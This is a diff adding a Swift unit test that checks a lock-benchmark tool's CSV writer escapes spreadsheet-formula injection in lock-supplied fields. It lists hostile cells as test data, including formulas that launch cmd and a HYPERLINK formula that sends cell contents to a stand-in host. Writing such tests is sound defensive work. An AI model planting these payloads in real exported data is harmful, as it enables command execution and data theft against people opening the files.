@@ -78,6 +78,28 @@ func sampleReport() -> BenchReport {
         #expect(CSVWriter.field("a\r\nb") == "\"a\r\nb\"")
     }
 
+    /// A lock chooses its own serial number and model strings; a spreadsheet opening the CSV
+    /// must not run them as formulas (OWASP, "CSV Injection": a cell starting with = + - @ tab
+    /// or CR is prefixed with a single quote and quoted). Our own numbers stay numbers.
+    @Test func csvCellsALockControlsCannotBecomeSpreadsheetFormulas() throws {
+        for hostile in ["=cmd|' /C calc'!A0", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2",
+                        "=HYPERLINK(\"http://x.example/?\"&A1,\"click\")"] {
+            let cell = CSVWriter.field(hostile)
+            #expect(cell == "\"'" + hostile.replacingOccurrences(of: "\"", with: "\"\"") + "\"", "\(hostile.debugDescription) → \(cell.debugDescription)")
+        }
+        for plain in ["-5", "-12.5", "0", "812", "SN-1", "LX-300", "2026-11-29T10:00:00.000Z", "a=b"] {
+            #expect(CSVWriter.field(plain) == plain, "\(plain)")
+        }
+        // Through the writer and a real CSV reader: the value a spreadsheet shows starts with the quote.
+        var report = sampleReport()
+        report.locks[1].id = "=1+1"
+        report.locks[1].serial = "@cmd"
+        report.locks[1].model = "+LX"
+        report.locks[1].firmware = "-1+1"
+        let row = try parseCSV(CSVWriter.summary(report))[2]
+        #expect(Array(row[0..<4]) == ["'=1+1", "'+LX", "'-1+1", "'@cmd"], "\(row)")
+    }
+
     @Test func summaryTableShowsEachLockAndTheVerdict() {
         let lines = SummaryRenderer.render(sampleReport(), style: .plain)
         #expect(lines[0].hasPrefix("LOCK"))
